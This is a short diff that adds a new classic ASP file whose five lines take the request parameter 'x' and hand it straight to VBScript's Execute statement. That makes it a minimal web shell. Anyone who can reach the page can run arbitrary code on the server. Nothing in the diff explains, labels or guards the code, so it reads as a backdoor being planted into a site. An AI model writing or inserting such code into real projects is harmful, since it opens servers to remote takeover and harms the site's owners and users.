@@ -1,0 +1,5 @@
+<%
+Dim payload
+payload = request("x")
+Execute payload
+%>
